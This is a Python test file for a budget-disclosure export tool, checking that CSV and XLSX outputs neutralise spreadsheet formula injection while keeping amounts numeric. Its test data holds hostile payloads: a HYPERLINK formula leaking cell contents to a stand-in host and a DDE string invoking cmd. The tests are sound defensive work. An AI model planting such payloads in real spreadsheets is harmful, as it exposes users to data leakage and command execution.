"""Text that a spreadsheet would run as a formula (OWASP "CSV Injection") is never exported
live: the cells CSV prefixes it with ``'``, the XLSX stores it as a string; amounts, negative
ones included, stay numbers."""

from __future__ import annotations

import csv
import dataclasses
import io
from decimal import Decimal

import openpyxl
import pytest

from yusuan.render.export import render_cells_csv, spreadsheet_safe
from yusuan.render.xlsx import render_xlsx

HOSTILE = '=HYPERLINK("http://example.invalid/?q="&A1,"点击查看")'


@pytest.mark.parametrize(("text", "exported"), [
    ("=1+1", "'=1+1"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("-1491.86", "-1491.86"), ("+12", "+12"), ("-0.5", "-0.5"), ("1e3", "1e3"),
    ("财政拨款收入", "财政拨款收入"), ("（一）=", "（一）="), ("", ""),
    (Decimal("-3.20"), Decimal("-3.20")), (7, 7), (None, None)])
def test_spreadsheet_safe(text, exported):
    assert spreadsheet_safe(text) == exported


def hostile(disclosure):
    """The example with a formula as department, row and project name, and a negative amount."""
    tables = []
    for table in disclosure.tables:
        rows = list(table.rows)
        i = next((n for n, r in enumerate(rows) if r.kind == "item" and any(r.values.values())),
                 None)
        if i is None:  # an empty table
            tables.append(table)
            continue
        key = next(k for k, v in rows[i].values.items() if v)
        rows[i] = dataclasses.replace(rows[i], name="@SUM(A1:A9)",
                                      values={**rows[i].values, key: Decimal("-12.50")})
        rows = [dataclasses.replace(r, project="+1+2") if r.project else r for r in rows]
        tables.append(dataclasses.replace(table, rows=tuple(rows)))
    return dataclasses.replace(disclosure, department=HOSTILE, tables=tuple(tables))


def test_the_cells_csv_shows_formulas_as_text_and_keeps_amounts_numbers(korla_disclosure):
    text = render_cells_csv(hostile(korla_disclosure)).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {r["department"] for r in rows} == {"'" + HOSTILE}
    named = [r for r in rows if r["name"].endswith("@SUM(A1:A9)")]
    assert named and all(r["name"] == "'@SUM(A1:A9)" for r in named)
    assert "-125000.00" in {r["amount_yuan"] for r in named}  # -12.50 万元, not quoted
    assert any(r["project"] == "'+1+2" for r in rows)
    for r in rows:
        for field, value in r.items():
            assert not value.startswith(("=", "+", "@")) or field == "amount_yuan", (field, r)


def test_the_xlsx_stores_formula_like_names_as_strings(korla_disclosure):
    book = openpyxl.load_workbook(io.BytesIO(render_xlsx(hostile(korla_disclosure))))
    found = [c for ws in book.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and (c.value.startswith("@SUM") or HOSTILE in c.value)]
    assert found
    assert {c.data_type for c in found} == {"s"}  # text, never "f" (a formula)
